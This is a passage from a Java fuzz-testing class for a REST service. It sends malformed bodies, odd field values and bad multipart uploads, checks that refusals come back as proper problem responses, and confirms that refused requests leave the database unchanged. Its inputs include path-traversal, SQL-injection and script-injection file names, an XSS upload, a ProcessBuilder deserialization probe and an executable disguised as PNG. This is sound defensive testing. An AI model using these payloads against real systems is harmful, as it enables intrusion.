            "{\"a\":".repeat(3000) + "1" + "}".repeat(3000),
            "[" + "null,".repeat(30000) + "null]",
            "\"" + "a".repeat(1_200_000) + "\"");
    for (String text : malformed) {
      mutations.add(
          new Mutation(
              "malformed",
              "body " + abbreviate(text),
              false,
              (d, r) -> d.rawBody = text.getBytes(StandardCharsets.UTF_8)));
    }
    mutations.add(
        new Mutation(
            "malformed",
            "body truncated",
            false,
            (d, r) -> {
              byte[] whole = bytes(d.body);
              d.rawBody = java.util.Arrays.copyOf(whole, r.nextInt(Math.max(1, whole.length - 1)));
            }));
    mutations.add(
        new Mutation(
            "malformed",
            "trailing garbage",
            false,
            (d, r) ->
                d.rawBody = concat(bytes(d.body), " garbage".getBytes(StandardCharsets.UTF_8))));
    mutations.add(
        new Mutation(
            "malformed",
            "body inside an array",
            false,
            (d, r) -> d.body = NODES.arrayNode().add(d.body)));
    mutations.add(
        new Mutation(
            "malformed",
            "invalid UTF-8",
            false,
            (d, r) -> {
              // An emptied body ("{}") is padded so that the broken pair fits in it.
              byte[] whole = concat(bytes(d.body), "  ".getBytes(StandardCharsets.US_ASCII));
              whole[whole.length / 2] = (byte) 0xC3;
              whole[whole.length / 2 + 1] = (byte) 0x28;
              d.rawBody = whole;
            }));
    mutations.add(
        new Mutation(
            "malformed",
            "UTF-8 byte order mark (lenient)",
            false,
            (d, r) ->
                d.rawBody =
                    concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, bytes(d.body))));
    mutations.add(
        new Mutation(
            "malformed",
            "duplicate key",
            false,
            (d, r) -> {
              String text = new String(bytes(d.body), StandardCharsets.UTF_8);
              Iterator<String> names = d.body.fieldNames();
              String name = names.hasNext() ? names.next() : "a";
              d.rawBody =
                  ("{\"" + name + "\":1," + text.substring(1)).getBytes(StandardCharsets.UTF_8);
            }));
    // Unknown fields.
    for (String name :
        List.of("unknownField", "__proto__", "@class", "class", "id", "version", "status", "")) {
      mutations.add(
          new Mutation(
              "unknown-field",
              "unknown field '" + name + "'",
              false,
              (d, r) -> {
                if (d.body instanceof ObjectNode object) {
                  object.put(name, name.equals("@class") ? "java.lang.ProcessBuilder" : "x");
                }
              }));
    }
    // Content types.
    for (String type :
        List.of(
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/json-patch+json",
            "garbage",
            "application/",
            "application/problem+json",
            "*/*",
            "text/json",
            "application/json; charset=utf-16",
            "application/json; charset=latin1",
            "application/json; charset=\"",
            "",
            "application/json;;;")) {
      mutations.add(
          new Mutation(
              "content-type", "Content-Type: " + type, false, (d, r) -> d.contentType = type));
    }
    mutations.add(
        new Mutation(
            "content-type",
            "Content-Encoding: gzip on a plain body",
            false,
            (d, r) -> d.headers.put("Content-Encoding", "gzip")));
    // Every field.
    List<Field> fields = new ArrayList<>();
    fields(baseBody(operation), operation.bodySchema(), new ArrayList<>(), true, fields);
    for (Field field : fields) {
      fieldMutations(field, mutations);
    }
    if (mediaType == null) {
      throw new IllegalStateException();
    }
  }

  private record Field(List<Object> path, JsonNode schema, boolean required) {
    String name() {
      StringBuilder name = new StringBuilder();
      for (Object step : path) {
        name.append(step instanceof Integer i ? "[" + i + "]" : (name.isEmpty() ? "" : ".") + step);
      }
      return name.toString();
    }
  }

  private void fields(
      JsonNode value, JsonNode schema, List<Object> path, boolean required, List<Field> out) {
    schema = resolve(schema);
    if (!path.isEmpty()) {
      out.add(new Field(List.copyOf(path), schema, required));
    }
    if (value instanceof ObjectNode object) {
      List<String> requiredNames = new ArrayList<>();
      schema.path("required").forEach(n -> requiredNames.add(n.asText()));
      for (Iterator<String> names = object.fieldNames(); names.hasNext(); ) {
        String name = names.next();
        List<Object> child = new ArrayList<>(path);
        child.add(name);
        JsonNode childSchema = schema.path("properties").path(name);
        fields(object.get(name), childSchema, child, requiredNames.contains(name), out);
      }
    } else if (value instanceof ArrayNode array && !array.isEmpty()) {
      List<Object> child = new ArrayList<>(path);
      child.add(0);
      fields(array.get(0), schema.path("items"), child, true, out);
    }
  }

  private void fieldMutations(Field field, List<Mutation> mutations) {
    String group = "field-" + field.name();
    String type = typeOf(field.schema());
    String format = field.schema().path("format").asText();
    List<Map.Entry<String, JsonNode>> values = new ArrayList<>();
    values.add(Map.entry("null", NODES.nullNode()));
    switch (type) {
      case "object" -> {
        values.add(Map.entry("[]", NODES.arrayNode()));
        values.add(Map.entry("\"x\"", NODES.textNode("x")));
        values.add(Map.entry("1", NODES.numberNode(1)));
        values.add(Map.entry("{}", NODES.objectNode()));
      }
      case "array" -> {
        values.add(Map.entry("{}", NODES.objectNode()));
        values.add(Map.entry("\"x\"", NODES.textNode("x")));
        values.add(Map.entry("1", NODES.numberNode(1)));
        values.add(Map.entry("[]", NODES.arrayNode()));
        values.add(Map.entry("[null]", NODES.arrayNode().addNull()));
        values.add(Map.entry("[[]]", NODES.arrayNode().add(NODES.arrayNode())));
      }
      case "integer", "number" -> {
        values.add(Map.entry("\"1\"", NODES.textNode("1")));
        values.add(Map.entry("\"abc\"", NODES.textNode("abc")));
        values.add(Map.entry("true", NODES.booleanNode(true)));
        values.add(Map.entry("{}", NODES.objectNode()));
        values.add(Map.entry("[1]", NODES.arrayNode().add(1)));
        for (String number :
            List.of(
                "-1",
                "0",
                "-0",
                "1.5",
                "1.0",
                "1e2",
                "0.001",
                "2147483648",
                "-2147483649",
                "9223372036854775808",
                "-9223372036854775809",
                "1e400",
                "-1e400",
                "1e-400",
                "1e999999999",
                "1E-2147483647",
                "123456789012345678901234567890.125",
                "9".repeat(900),
                "0." + "0".repeat(900) + "1")) {
          values.add(Map.entry(abbreviate(number), NODES.rawValueNode(new RawValue(number))));
        }
      }
      case "boolean" -> {
        values.add(Map.entry("\"true\"", NODES.textNode("true")));
        values.add(Map.entry("1", NODES.numberNode(1)));
        values.add(Map.entry("\"yes\"", NODES.textNode("yes")));
        values.add(Map.entry("{}", NODES.objectNode()));
      }
      default -> {
        values.add(Map.entry("1", NODES.numberNode(1)));
        values.add(Map.entry("true", NODES.booleanNode(true)));
        values.add(Map.entry("{}", NODES.objectNode()));
        values.add(Map.entry("[\"x\"]", NODES.arrayNode().add("x")));
        values.add(Map.entry("\"\"", NODES.textNode("")));
        values.add(Map.entry("\"   \"", NODES.textNode("   ")));
        values.add(Map.entry("100,000 characters", NODES.textNode("a".repeat(HUGE))));
        values.add(Map.entry("100,000 emoji", NODES.textNode("\uD83D\uDE00".repeat(HUGE / 2))));
        for (String fragment : FRAGMENTS) {
          values.add(Map.entry(abbreviate(fragment), NODES.textNode(fragment)));
        }
        for (String raw : RAW_STRINGS) {
          values.add(Map.entry(raw, NODES.rawValueNode(new RawValue(raw))));
        }
        if (field.schema().has("enum")) {
          String first = field.schema().get("enum").get(0).asText();
          values.add(Map.entry("NOT_A_VALUE", NODES.textNode("NOT_A_VALUE")));
          values.add(
              Map.entry(
                  first.toLowerCase(Locale.ROOT), NODES.textNode(first.toLowerCase(Locale.ROOT))));
          values.add(Map.entry("' " + first + " ' (lenient)", NODES.textNode(" " + first + " ")));
        }
        if (format.equals("date")) {
          for (String date :
              List.of(
                  "2026-02-30",
                  "0000-01-01",
                  "99999-01-01",
                  "+99999-01-01",
                  "-0001-01-01",
                  "2026-13-01",
                  "2026-1-1",
                  "garbage",
                  "2026-02-28T10:00:00Z",
                  "1970-01-01",
                  "9999-12-31",
                  "0001-01-01")) {
            values.add(Map.entry(date, NODES.textNode(date)));
          }
          values.add(Map.entry("20260228", NODES.numberNode(20260228)));
        }
        if (format.equals("date-time")) {
          for (String time :
              List.of(
                  "2026-02-30T10:00:00Z",
                  "2026-03-01T10:00:00",
                  "0000-01-01T00:00:00Z",
                  "99999-01-01T00:00:00Z",
                  "+999999999-12-31T23:59:59Z",
                  "2026-03-01T25:00:00Z",
                  "garbage",
                  "2026-03-01",
                  "2026-03-01T10:00:00+25:00",
                  "1970-01-01T00:00:00Z",
                  "9999-12-31T23:59:59-18:00")) {
            values.add(Map.entry(time, NODES.textNode(time)));
          }
          values.add(Map.entry("1700000000", NODES.numberNode(1_700_000_000L)));
          values.add(Map.entry("1e20", NODES.rawValueNode(new RawValue("1e20"))));
        }
      }
    }
    String name = field.name();
    mutations.add(
        new Mutation(group, name + " missing", false, (d, r) -> set(d.body, field.path(), null)));
    for (Map.Entry<String, JsonNode> value : values) {
      mutations.add(
          new Mutation(
              group,
              name + "=" + value.getKey(),
              false,
              (d, r) -> set(d.body, field.path(), value.getValue().deepCopy())));
    }
    if (type.equals("array")) {
      int many = field.schema().path("maxItems").asInt(1000) + 1;
      mutations.add(
          new Mutation(
              group,
              name + " with " + many + " items",
              false,
              (d, r) -> {
                JsonNode array = get(d.body, field.path());
                if (array instanceof ArrayNode items && !items.isEmpty()) {
                  JsonNode first = items.get(0);
                  for (int i = items.size(); i < many; i++) {
                    items.add(first.deepCopy());
                  }
                }
              }));
    }
    if (type.equals("object")) {
      mutations.add(
          new Mutation(
              group,
              name + " with an unknown field",
              false,
              (d, r) -> {
                if (get(d.body, field.path()) instanceof ObjectNode object) {
                  object.put("unknownField", 1);
                }
              }));
    }
  }

  private void multipartMutations(Operation operation, List<Mutation> mutations) {
    List<String> names = new ArrayList<>();
    operation.bodySchema().path("properties").fieldNames().forEachRemaining(names::add);
    for (String name : names) {
      JsonNode schema = resolve(operation.bodySchema().path("properties").path(name));
      boolean file =
          "binary"
              .equals(operation.bodySchema().path("properties").path(name).path("format").asText());
      String group = "part-" + name;
      mutations.add(
          new Mutation(
              group,
              name + " missing",
              false,
              (d, r) -> {
                if (d.parts != null) {
                  d.parts.removeIf(p -> p.name().equals(name));
                }
              }));
      mutations.add(
          new Mutation(
              group,
              name + " twice",
              false,
              (d, r) -> {
                if (d.parts != null) {
                  d.parts.add(part(d, name));
                }
              }));
      if (file) {
        Map<String, Part> files = new LinkedHashMap<>();
        files.put("empty file", new Part(name, "kosong.png", "image/png", new byte[0]));
        files.put(
            "text as png",
            new Part(name, "foto.png", "image/png", "hello".getBytes(StandardCharsets.UTF_8)));
        files.put(
            "executable as png",
            new Part(name, "foto.png", "image/png", SupplierFixtures.EXECUTABLE));
        files.put(
            "html",
            new Part(
                name,
                "x.html",
                "text/html",
                "<script>alert(1)</script>".getBytes(StandardCharsets.UTF_8)));
        files.put(
            "path traversal name",
            new Part(name, "../../../../etc/passwd", "image/png", SupplierFixtures.PNG));
        files.put(
            "injection name",
            new Part(name, "' OR 1=1--<script>.png", "image/png", SupplierFixtures.PNG));
        files.put(
            "10,000-character name",
            new Part(name, "a".repeat(10_000) + ".png", "image/png", SupplierFixtures.PNG));
        files.put("no file name", new Part(name, null, "image/png", SupplierFixtures.PNG));
        files.put("no content type", new Part(name, "foto.png", null, SupplierFixtures.PNG));
        files.put(
            "garbage content type", new Part(name, "foto.png", "garbage", SupplierFixtures.PNG));
        files.put(
            "13 MB",
            new Part(
                name,
                "besar.png",
                "image/png",
                concat(SupplierFixtures.PNG, new byte[13 * 1024 * 1024])));
        files.forEach(
            (label, part) ->
                mutations.add(
                    new Mutation(group, name + ": " + label, false, (d, r) -> replace(d, part))));
      } else {
        List<String> values =
            new ArrayList<>(
                List.of(
                    "",
                    "   ",
                    "a".repeat(HUGE),
                    "NOT_A_VALUE",
                    "2026-02-30",
                    "0000-01-01",
                    "99999-01-01",
                    "garbage",
                    "-1",
                    "1e400"));
        values.addAll(FRAGMENTS);
        if (schema.has("enum")) {
          values.add(schema.get("enum").get(0).asText().toLowerCase(Locale.ROOT));
        }
        for (String value : values) {
          mutations.add(
              new Mutation(
                  group,
                  name + "=" + abbreviate(value),
                  false,
                  (d, r) ->
                      replace(
                          d, new Part(name, null, null, value.getBytes(StandardCharsets.UTF_8)))));
        }
        mutations.add(
            new Mutation(
                group,
                name + " invalid UTF-8",
                false,
                (d, r) ->
                    replace(
                        d,
                        new Part(name, null, null, new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF}))));
      }
    }
    mutations.add(
        new Mutation(
            "multipart",
            "unknown part",
            false,
            (d, r) ->
                replace(d, new Part("unknown", null, null, "x".getBytes(StandardCharsets.UTF_8)))));
    mutations.add(
        new Mutation(
            "multipart",
            "no parts",
            false,
            (d, r) -> {
              if (d.parts != null) {
                d.parts.clear();
              }
            }));
    for (String body :
        List.of(
            "",
            "garbage",
            "--x\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\nabc",
            "--x--",
            "--x\r\n\r\n--x--",
            "--x\r\nContent-Disposition: form-data\r\n\r\nabc\r\n--x--")) {
      mutations.add(
          new Mutation(
              "multipart",
              "body " + abbreviate(body),
              false,
              (d, r) -> {
                d.rawBody = body.getBytes(StandardCharsets.UTF_8);
                d.contentType = "multipart/form-data; boundary=x";
              }));
    }
    for (String type :
        List.of(
            "multipart/form-data",
            "multipart/form-data; boundary=",
            "multipart/form-data; boundary=other",
            "application/json",
            "text/plain",
            "application/octet-stream",
            "garbage",
            "multipart/mixed; boundary=x")) {
      mutations.add(
          new Mutation(
              "content-type", "Content-Type: " + type, false, (d, r) -> d.contentType = type));
    }
    mutations.add(
        new Mutation(
            "content-type",
            "JSON instead of parts",
            false,
            (d, r) -> {
              d.parts = null;
              d.rawBody = "{\"file\":\"x\"}".getBytes(StandardCharsets.UTF_8);
              d.contentType = "application/json";
            }));
  }

  private static Part part(Draft draft, String name) {
    return draft.parts.stream()
        .filter(p -> p.name().equals(name))
        .findFirst()
        .orElse(new Part(name, null, null, new byte[0]));
  }

  private static void replace(Draft draft, Part part) {
    if (draft.parts == null) {
      return;
    }
    draft.parts.removeIf(p -> p.name().equals(part.name()));
    draft.parts.add(part);
  }

  private static byte[] multipart(List<Part> parts, String boundary) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (Part part : parts) {
      StringBuilder head = new StringBuilder("--").append(boundary).append("\r\n");
      head.append("Content-Disposition: form-data; name=\"").append(part.name()).append('"');
      if (part.filename() != null) {
        head.append("; filename=\"").append(part.filename()).append('"');
      }
      head.append("\r\n");
      if (part.type() != null) {
        head.append("Content-Type: ").append(part.type()).append("\r\n");
      }
      head.append("\r\n");
      out.writeBytes(head.toString().getBytes(StandardCharsets.UTF_8));
      out.writeBytes(part.content());
      out.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
    }
    out.writeBytes(("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
    return out.toByteArray();
  }

  private static JsonNode get(JsonNode body, List<Object> path) {
    JsonNode node = body;
    for (Object step : path) {
      if (node == null) {
        return null;
      }
      node = step instanceof Integer i ? node.get(i) : node.get((String) step);
    }
    return node;
  }

  /** Sets (or with null removes) the value at a path, when the path still exists. */
  private static void set(JsonNode body, List<Object> path, JsonNode value) {
    JsonNode parent = get(body, path.subList(0, path.size() - 1));
    Object last = path.get(path.size() - 1);
    if (parent instanceof ObjectNode object && last instanceof String name) {
      if (value == null) {
        object.remove(name);
      } else {
        object.set(name, value);
      }
    } else if (parent instanceof ArrayNode array && last instanceof Integer i && i < array.size()) {
      if (value == null) {
        array.remove(i);
      } else {
        array.set(i, value);
      }
    }
  }

  // --- sending and checking -------------------------------------------------------------------

  private record Answer(int status, String contentType, String body) {}

  private void run(Operation operation, String group, List<Request> requests, ExecutorService pool)
      throws Exception {
    String before = database.string(fingerprintSql);
    List<Future<Answer>> answers = new ArrayList<>();
    for (Request request : requests) {
      answers.add(pool.submit(() -> send(request)));
    }
    boolean allRefused = true;
    for (int i = 0; i < requests.size(); i++) {
      Request request = requests.get(i);
      Answer answer = answers.get(i).get();
      report.sent(operation.id());
      covered.add(operation.id());
      check(request, answer);
      if (answer.status() < 400 || answer.status() >= 500) {
        allRefused = false;
      }
    }
    if (allRefused) {
      String after = database.string(fingerprintSql);
      if (!before.equals(after)) {
        failure(
            operation.id()
                + " "
                + group
                + ": every request was refused but the database changed: "
                + difference(before, after));
      }
    }
  }

  private void failure(String text) {
    report.failure(text);
    findings.add(text);
  }

  private void check(Request request, Answer answer) {
    String at = request.label() + " -> " + answer.status();
    if (answer.status() == 414
        && answer.contentType() == null
        && request.target().length() > DECODER_LINE_LIMIT) {
      // Accepted: Vert.x refuses a request line above quarkus.http.limits.max-initial-line-length
      // while decoding, before any handler of ours could answer; no hook exists to shape that
      // answer. (Below it, the service answers a long target with a 414 problem itself.)
      refused.incrementAndGet();
      return;
    }
    if (answer.status() == 400
        && answer.contentType() == null
        && BROKEN_ESCAPE.matcher(request.target()).find()) {
      // Accepted: Quarkus checks that the URI can be decoded before any route (or filter) of
      // ours sees the request, and answers an empty 400 itself.
      refused.incrementAndGet();
      return;
    }
    if (answer.status() >= 200 && answer.status() < 300) {
      accepted.incrementAndGet();
      return;
    }
    if (answer.status() < 400) {
      otherwise.incrementAndGet();
      return;
    }
    if (answer.status() >= 500) {
      otherwise.incrementAndGet();
      failure(at + ": server error " + abbreviate(answer.body()));
      return;
    }
    refused.incrementAndGet();
    if (answer.contentType() == null
        || !answer.contentType().startsWith("application/problem+json")) {
      failure(at + ": not a problem (" + answer.contentType() + ") " + abbreviate(answer.body()));
      return;
    }
    JsonNode problem;
    try {
      problem = JSON.readTree(answer.body());
    } catch (IOException e) {
      failure(at + ": problem body is not JSON: " + abbreviate(answer.body()));
      return;
    }
    if (problem.path("status").asInt() != answer.status()
        || problem.path("title").asText().isBlank()
        || problem.path("detail").asText().isBlank()) {
      failure(at + ": problem without status, title or detail: " + abbreviate(answer.body()));
      return;
    }
    boolean generic = genericDetails.containsValue(problem.path("detail").asText());
    JsonNode errors = problem.path("errors");
    if (generic && (!errors.isArray() || errors.isEmpty())) {
      failure(at + ": a validation problem that names no field: " + abbreviate(answer.body()));
      return;
    }
    for (JsonNode error : errors) {
      if (error.path("message").asText().isBlank()
          || error.path("message").asText().startsWith("validation.")
          || error.path("message").asText().startsWith("{")) {
        failure(at + ": a field error without a message: " + abbreviate(answer.body()));
        return;
      }
    }
    ObjectNode shown = problem.deepCopy();
    shown.remove("instance");
    if (LEAK.matcher(shown.toString()).find()) {
      failure(at + ": the problem leaks internals: " + abbreviate(answer.body()));
    }
  }

  private Answer send(Request request) {
    if (request.raw()) {
      return sendRaw(request);
    }
    try {
      HttpRequest.Builder builder =
          HttpRequest.newBuilder(URI.create(base + request.target()))
              .timeout(Duration.ofSeconds(60))
              .method(
                  request.method(),
                  request.body() == null
                      ? HttpRequest.BodyPublishers.noBody()
                      : HttpRequest.BodyPublishers.ofByteArray(request.body()));
      request.headers().forEach(builder::header);
      HttpResponse<String> response =
          http.send(builder.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
      return new Answer(
          response.statusCode(),
          response.headers().firstValue("Content-Type").orElse(null),
          response.body());
    } catch (IllegalArgumentException e) {
      // A target or header java.net.http refuses to send: written on a socket instead.
      return sendRaw(request);
    } catch (IOException e) {
      // The server may close the connection of a refused oversized body before reading it.
      return sendRaw(request);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IllegalStateException(e);
    }
  }

  /** A request written on a socket as it is, for what java.net.http refuses to send. */
  private Answer sendRaw(Request request) {
    try (Socket socket = new Socket("localhost", RestAssured.port)) {
      socket.setSoTimeout(60_000);
      StringBuilder head =
          new StringBuilder(request.method())
              .append(' ')
              .append(request.target())
              .append(" HTTP/1.1\r\n");
      head.append("Host: localhost\r\nConnection: close\r\n");
      request
          .headers()
          .forEach((name, value) -> head.append(name).append(": ").append(value).append("\r\n"));
      byte[] body = request.body() == null ? new byte[0] : request.body();
      head.append("Content-Length: ").append(body.length).append("\r\n\r\n");
      OutputStream out = socket.getOutputStream();
      out.write(head.toString().getBytes(StandardCharsets.UTF_8));
      try {
        out.write(body);
        out.flush();
      } catch (IOException e) {
        // refused before the body was read: the answer is waiting
      }
      byte[] response = socket.getInputStream().readAllBytes();
      String text = new String(response, StandardCharsets.UTF_8);
      int end = text.indexOf("\r\n\r\n");
      String headers = end < 0 ? text : text.substring(0, end);
      String[] lines = headers.split("\r\n");
      int status =
          lines.length > 0 && lines[0].length() >= 12
              ? Integer.parseInt(lines[0].substring(9, 12))
              : 0;
      String contentType = null;
      for (String line : lines) {
        if (line.toLowerCase(Locale.ROOT).startsWith("content-type:")) {
          contentType = line.substring("content-type:".length()).trim();
        }
      }
      return new Answer(status, contentType, end < 0 ? "" : text.substring(end + 4));
    } catch (IOException e) {
      return new Answer(0, null, "no answer: " + e);
    }
  }

  private String get(String path) throws IOException, InterruptedException {
    return http.send(
            HttpRequest.newBuilder(URI.create(base + path)).build(),
            HttpResponse.BodyHandlers.ofString())
        .body();
  }

  // --- the database's fingerprint -------------------------------------------------------------

  /** Row counts of every application table, and the sum of every version column. */
  private String fingerprintQuery() {
    List<String> tables =
        database.strings(
            """
            select table_name from information_schema.tables
             where table_schema = 'public' and table_type = 'BASE TABLE'
               and table_name <> 'flyway_schema_history'
             order by table_name
            """);
    List<String> versioned =
        database.strings(
            """
            select table_name from information_schema.columns
             where table_schema = 'public' and column_name = 'version'
            """);
    assertTrue(
        tables.containsAll(List.of("audit_log", "idempotency_key", "notification")),
        tables.toString());
    List<String> parts = new ArrayList<>();
    for (String table : tables) {
      parts.add("'" + table + "=' || (select count(*) from " + table + ")");
      if (versioned.contains(table)) {
        parts.add(
            "'" + table + ".version=' || (select coalesce(sum(version), 0) from " + table + ")");
      }
    }
    return "select concat_ws(' ', " + String.join(", ", parts) + ")";
  }

  private static String difference(String before, String after) {
    List<String> a = List.of(before.split(" "));
    List<String> b = List.of(after.split(" "));
    List<String> changed = new ArrayList<>();
    for (int i = 0; i < Math.min(a.size(), b.size()); i++) {
      if (!a.get(i).equals(b.get(i))) {
        changed.add(a.get(i) + " -> " + b.get(i).substring(b.get(i).indexOf('=') + 1));
      }
    }
    return String.join(", ", changed);
  }

  // --- small helpers --------------------------------------------------------------------------

  private static byte[] bytes(JsonNode body) {
    try {
      return JSON.writeValueAsBytes(body == null ? NODES.objectNode() : body);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static byte[] concat(byte[] a, byte[] b) {
    byte[] both = java.util.Arrays.copyOf(a, a.length + b.length);
    System.arraycopy(b, 0, both, a.length, b.length);
    return both;
  }

  private static String encode(String value) {
    return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private static String randomText(Random random, int length) {
    StringBuilder text = new StringBuilder();
    while (text.length() < length) {
      int codePoint =
          random.nextInt(4) == 0 ? random.nextInt(0x2FFFF) : 0x20 + random.nextInt(0x5F);
      if (Character.isDefined(codePoint)
          && !(codePoint >= Character.MIN_SURROGATE && codePoint <= Character.MAX_SURROGATE)) {
        text.appendCodePoint(codePoint);
      }
    }
    return text.toString();
  }

  private static String abbreviate(String text) {
    if (text == null) {
      return "null";
    }
    String shown = text.replace("\r", "\\r").replace("\n", "\\n").replace("\u0000", "\\0");
    return shown.length() <= 160 ? shown : shown.substring(0, 150) + "…(" + text.length() + ")";
  }
}
